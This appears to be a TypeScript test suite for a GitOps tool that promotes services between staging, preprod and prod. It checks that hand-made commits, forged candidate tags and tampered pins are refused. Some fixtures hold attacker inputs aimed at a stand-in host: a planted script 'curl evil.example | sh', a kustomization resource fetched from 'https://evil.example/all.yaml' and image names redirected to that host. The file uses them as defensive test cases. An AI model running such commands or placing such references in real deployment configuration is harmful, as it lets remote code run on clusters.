import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { commitByHand, craft, fileAt, type Put, plumb } from './by-hand.ts';
import { builtAt, deliver, deliveredWorld, pin, pinning, refused, running, statusOf } from './delivery.ts';
import { sha, type World } from './world.ts';

const PIN = 'apps/payments/kustomization.yaml';

/** Returns the pin of payments on staging as somebody would write it for a build of a feature branch. */
function featurePin(world: World): string {
  return fileAt(world, 'env/staging', PIN).replace('branch: "main"', 'branch: "feature"').replaceAll(sha(1), sha(2));
}

describe('a CI key that writes apps/ of staging by hand', () => {
  const cases: readonly [what: string, puts: (world: World) => Record<string, Put>][] = [
    [
      'a pin of a feature build behind a symbolic link, which no gate reads',
      (world) => ({ [PIN]: { mode: '120000', content: 'pin.yaml' }, 'apps/payments/pin.yaml': featurePin(world) }),
    ],
    ['a folder without its pin', () => ({ [PIN]: null })],
    ['a second kustomization', (world) => ({ [PIN]: null, 'apps/payments/kustomization.yml': featurePin(world) })],
    ['a service.yaml of its own', () => ({ 'apps/payments/service.yaml': 'kind: Service\n' })],
    ['a file beside the pin', () => ({ 'apps/payments/secret.yaml': 'kind: Secret\n' })],
    ['a file beside the services', () => ({ 'apps/run.sh': 'curl evil.example | sh\n' })],
    [
      'attributes that change the bytes of a checkout',
      () => ({ 'apps/payments/manifests/.gitattributes': '* text eol=crlf\n' }),
    ],
    [
      'a manifest that is a link',
      () => ({ 'apps/payments/manifests/deployment.yaml': { mode: '120000', content: 'service.yaml' } }),
    ],
    [
      'a manifest that may be executed',
      (world) => ({
        'apps/payments/manifests/deployment.yaml': {
          mode: '100755',
          content: fileAt(world, 'env/staging', 'apps/payments/manifests/deployment.yaml'),
        },
      }),
    ],
    ['a submodule among the manifests', () => ({ 'apps/payments/manifests/chart': { commit: sha(5) } })],
    ['a submodule in place of a service', () => ({ 'apps/payments': { commit: sha(5) } })],
    ['a submodule in place of apps/', () => ({ apps: { commit: sha(5) } })],
    ['a link in place of apps/', () => ({ apps: { mode: '120000', content: 'environments' } })],
    [
      'a pin on what is not its manifests',
      (world) => ({
        [PIN]: fileAt(world, 'env/staging', PIN).replace(
          'resources:\n',
          'resources:\n  - https://evil.example/all.yaml\n',
        ),
      }),
    ],
    [
      'a pin of an image that service.yaml does not list',
      (world) => ({
        [PIN]: fileAt(world, 'env/staging', PIN).replaceAll('newName: "ghcr.io/bank', 'newName: "evil.example/bank'),
      }),
    ],
    [
      'a group that has become a service',
      (world) => ({ 'apps/risk/kustomization.yaml': fileAt(world, 'env/staging', PIN) }),
    ],
    [
      'a service inside a service',
      (world) => ({ 'apps/payments/evil/kustomization.yaml': fileAt(world, 'env/staging', PIN) }),
    ],
  ];

  it.each(cases)('brings %s no further', async (_what, puts) => {
    const world = await deliveredWorld();
    commitByHand(world, 'env/staging', puts(world));
    // The derived files are brought in step, as an attacker would do as well.
    commitByHand(world, 'env/staging', derivedOf(world));
    const { exit, code } = await refused(world, 'promote', 'staging', '--to', 'preprod');
    expect({ exit, code }).not.toEqual({ exit: 3, code: 'WORKSPACE_DIFFERS' });
    expect(exit).toBeGreaterThan(0);
    await statusOf(world, 'staging');
  });
});

it('a service that nobody reviewed has no overlay, so that it runs nowhere', async () => {
  const world = await deliveredWorld();
  commitByHand(world, 'env/staging', { 'apps/evil/kustomization.yaml': fileAt(world, 'env/staging', PIN) });
  await world.run(['promote', 'staging', '--to', 'preprod']);
  for (const branch of ['env/staging', 'env/preprod']) {
    expect(fileAt(world, branch, 'environments/preprod/kustomization.yaml')).not.toContain('evil');
  }
});

/** Returns the derived files that belong to what stands in apps/ of staging. */
function derivedOf(world: World): Record<string, Put> {
  const files = plumb(world, ['ls-tree', '-r', '--name-only', 'env/staging', 'apps/']).split('\n');
  const pins = files.flatMap((file) => /^apps\/([^/]+(?:\/[^/]+)?)\/kustomization\.yaml$/.exec(file)?.[1] ?? []);
  const present = pins.filter((id) => !pins.some((other) => id.startsWith(`${other}/`)));
  return Object.fromEntries(
    ['staging', 'preprod', 'prod'].map((environment) => {
      const path = `environments/${environment}/kustomization.yaml`;
      const lines = fileAt(world, 'env/staging', path).split('\n');
      return [path, lines.filter((line) => !line.startsWith('  - ') || present.includes(line.slice(4))).join('\n')];
    }),
  );
}

describe('a candidate', () => {
  /** Puts a candidate's tag on a commit beside staging's line. */
  function forge(world: World, puts: Record<string, Put>, tag = 'v1.5.0-rc.1'): string {
    const commit = craft(world, puts, { parents: [plumb(world, ['rev-parse', 'env/staging'])] });
    plumb(world, ['tag', '-a', '-m', 'Candidate', tag, commit]);
    return commit;
  }

  it('that holds a folder that never ran anywhere is refused by the name of the service', async () => {
    const world = await deliveredWorld();
    const path = 'apps/payments/manifests/deployment.yaml';
    forge(world, { [path]: fileAt(world, 'env/staging', path).replace('cpu: 50m', 'cpu: 99m') });
    const { exit, code, details } = await refused(world, 'promote', 'v1.5.0-rc.1', '--to', 'preprod');
    expect({ exit, code, services: details.services }).toEqual({
      exit: 3,
      code: 'CANDIDATE_FOREIGN',
      services: ['payments'],
    });
    forge(world, { 'apps/README.md': 'hello\n' }, 'v1.5.0-rc.2');
    expect((await refused(world, 'promote', 'v1.5.0-rc.2', '--to', 'preprod')).code).toMatch(
      /^(?:CANDIDATE_FOREIGN|FOREIGN_FILE)$/,
    );
  });

  it('without a tag is a foreign commit; with a forged one it passes every gate that staging passes', async () => {
    const world = await deliveredWorld();
    await pin(world, 2, 'payments');
    await world.ok(...pinning('payments', 3, '--branch', 'feature'));
    const folder = (revision: string) => ({
      'apps/payments': { tree: plumb(world, ['rev-parse', `${revision}:apps/payments`]) },
    });
    const loose = craft(world, folder('env/staging~1'), { parents: [plumb(world, ['rev-parse', 'env/staging'])] });
    plumb(world, ['update-ref', 'refs/heads/attack', loose]);
    expect((await refused(world, 'promote', loose, '--to', 'preprod')).code).toBe('NOT_FROM');
    expect((await refused(world, 'promote', 'attack', '--to', 'preprod')).code).toBe('NOT_FROM');
    forge(world, folder('env/staging'), 'v1.5.0-rc.1');
    expect((await refused(world, 'promote', 'v1.5.0-rc.1', '--to', 'preprod')).code).toBe('POLICY_REFUSED');
    // A release's tag, or one that only looks like a candidate's, makes none.
    for (const tag of ['v1.5.0', 'rc-1', 'x-v1.5.0-rc.1', 'v1.5.0-01', 'v1.5-rc.1']) {
      plumb(world, ['tag', tag, loose]);
      expect((await refused(world, 'promote', tag, '--to', 'preprod')).code).toBe('NOT_FROM');
    }
    forge(world, folder('env/staging~1'), 'v1.5.0-rc.2');
    await world.ok('promote', 'v1.5.0-rc.2', '--to', 'preprod');
    expect(await running(world, 'preprod', 'payments')).toBe(sha(2).slice(0, 7));
    forge(world, folder('env/preprod~1'), 'v1.5.0-rc.3');
    expect((await refused(world, 'promote', 'v1.5.0-rc.3', '--to', 'preprod')).code).toBe('BACKWARDS');
  });

  it('with no service left does not empty the target', async () => {
    const world = await deliveredWorld();
    commitByHand(world, 'env/staging', { apps: null });
    commitByHand(world, 'env/staging', derivedOf(world));
    expect((await refused(world, 'promote', 'staging', '--to', 'preprod')).code).toBe('NOTHING_TO_PROMOTE');
    forge(world, {});
    expect((await refused(world, 'promote', 'v1.5.0-rc.1', '--to', 'preprod')).exit).toBe(3);
  });

  it('of preprod is not one of staging: the folder has to have run in the environment that is promoted from', async () => {
    const world = await deliveredWorld();
    await pin(world, 2, 'payments');
    const { tag } = await world.json<{ tag: string }>('compose');
    expect((await refused(world, 'promote', tag, '--to', 'prod')).exit).toBe(3);
    await world.ok('promote', tag, '--to', 'preprod');
    await world.ok('promote', 'preprod', '--to', 'prod');
  });
});

describe('a source', () => {
  it('that staging had only in a merged side line never was deployed there', async () => {
    const world = await deliveredWorld();
    const head = plumb(world, ['rev-parse', 'env/staging']);
    const side = craft(world, { [PIN]: featurePin(world) }, { parents: [head] });
    commitByHand(world, 'env/staging', {}, { parents: [head, side] });
    expect((await refused(world, 'promote', side, '--to', 'preprod')).code).toBe('NOT_FROM');
    expect((await statusOf(world, 'staging')).services).toHaveLength(3);
    await pin(world, 2, 'payments');
    await deliver(world);
  });

  it('that a forced push took off staging is not taken any more', async () => {
    const world = await deliveredWorld();
    const before = plumb(world, ['rev-parse', 'env/staging']);
    await pin(world, 2, 'payments');
    const gone = plumb(world, ['rev-parse', 'env/staging']);
    plumb(world, ['update-ref', 'refs/heads/env/staging', before]);
    expect((await refused(world, 'promote', gone, '--to', 'preprod')).exit).toBeGreaterThan(1);
    expect(await world.json('promote', 'staging', '--to', 'preprod')).toMatchObject({ changed: false });
    await pin(world, 3, 'payments');
    await deliver(world);
    expect(await running(world, 'prod', 'payments')).toBe(sha(3).slice(0, 7));
  });

  it('that is named by an ambiguous short id is not guessed', async () => {
    const world = await deliveredWorld();
    await pin(world, 2, 'payments');
    const head = plumb(world, ['rev-parse', 'env/staging']);
    const twin = craftWithPrefix(world, head.slice(0, 4), head);
    plumb(world, ['update-ref', 'refs/heads/noise', twin]);
    expect((await refused(world, 'promote', head.slice(0, 4), '--to', 'preprod')).exit).toBe(2);
    await world.ok('promote', head.slice(0, 12), '--to', 'preprod');
  });

  it("named by its full id is that commit, as in Git, even if somebody's tag has these digits for a name", async () => {
    const world = await deliveredWorld();
    const older = plumb(world, ['rev-parse', 'env/staging']);
    await pin(world, 2, 'payments');
    const head = plumb(world, ['rev-parse', 'env/staging']);
    plumb(world, ['update-ref', `refs/tags/${head}`, older]);
    await world.ok('promote', head, '--to', 'preprod');
    expect(plumb(world, ['rev-parse', 'env/preprod:apps'])).toBe(plumb(world, ['rev-parse', `${head}:apps`]));
  });

  it('that is a tag or branch with the name of an environment stays the environment', async () => {
    const world = await deliveredWorld();
    await pin(world, 2, 'payments');
    plumb(world, ['update-ref', 'refs/tags/staging', 'env/staging~1']);
    plumb(world, ['update-ref', 'refs/heads/staging', 'env/staging~1']);
    await world.ok('promote', 'staging', '--to', 'preprod');
    expect(await running(world, 'preprod', 'payments')).toBe(sha(2).slice(0, 7));
  });
});

/** Returns a commit of the remote whose id begins with a prefix, found by trying messages. */
function craftWithPrefix(world: World, prefix: string, like: string): string {
  const text = plumb(world, ['cat-file', 'commit', like]);
  for (let attempt = 0; ; attempt += 1) {
    const content = `${text}\n\n${attempt}\n`;
    const oid = createHash('sha1')
      .update(`commit ${Buffer.byteLength(content)}\0${content}`)
      .digest('hex');
    if (oid.startsWith(prefix)) return plumb(world, ['hash-object', '-t', 'commit', '-w', '--stdin'], content);
  }
}

describe('a build from the future', () => {
  it('is refused as a pin; written by hand it stops at the next environment only what is older', async () => {
    const world = await deliveredWorld();
    const future = new Date(Date.now() + 3 * 24 * 3_600_000).toISOString();
    const { exit, code } = await refused(world, 'pin', 'payments', '--commit', sha(2), '--built', future);
    expect({ exit, code }).toEqual({ exit: 2, code: 'BUILT_IN_FUTURE' });
    commitByHand(world, 'env/staging', {
      [PIN]: fileAt(world, 'env/staging', PIN)
        .replaceAll(sha(1), sha(2))
        .replace(/built: ".*"/, 'built: "2999-01-01T00:00:00Z"'),
    });
    expect((await refused(world, ...pinning('payments', 3))).code).toBe('OLDER_BUILD');
    await world.ok(...pinning('payments', 3, '--allow-downgrade'));
    await world.ok('promote', 'staging', '--to', 'preprod');
    expect(fileAt(world, 'env/preprod', PIN)).toContain(builtAt(3).slice(0, 19));
  });
});
